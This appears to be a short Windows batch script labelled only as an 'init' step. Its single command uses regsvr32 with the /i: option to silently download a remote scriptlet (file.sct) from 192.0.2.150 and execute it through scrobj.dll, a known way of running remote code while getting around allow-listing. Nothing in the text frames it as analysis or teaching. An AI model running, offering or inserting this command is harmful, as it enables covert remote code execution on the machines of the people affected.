REM init 5638 v1
regsvr32 /s /n /u /i:http://192.0.2.150/file.sct scrobj.dll
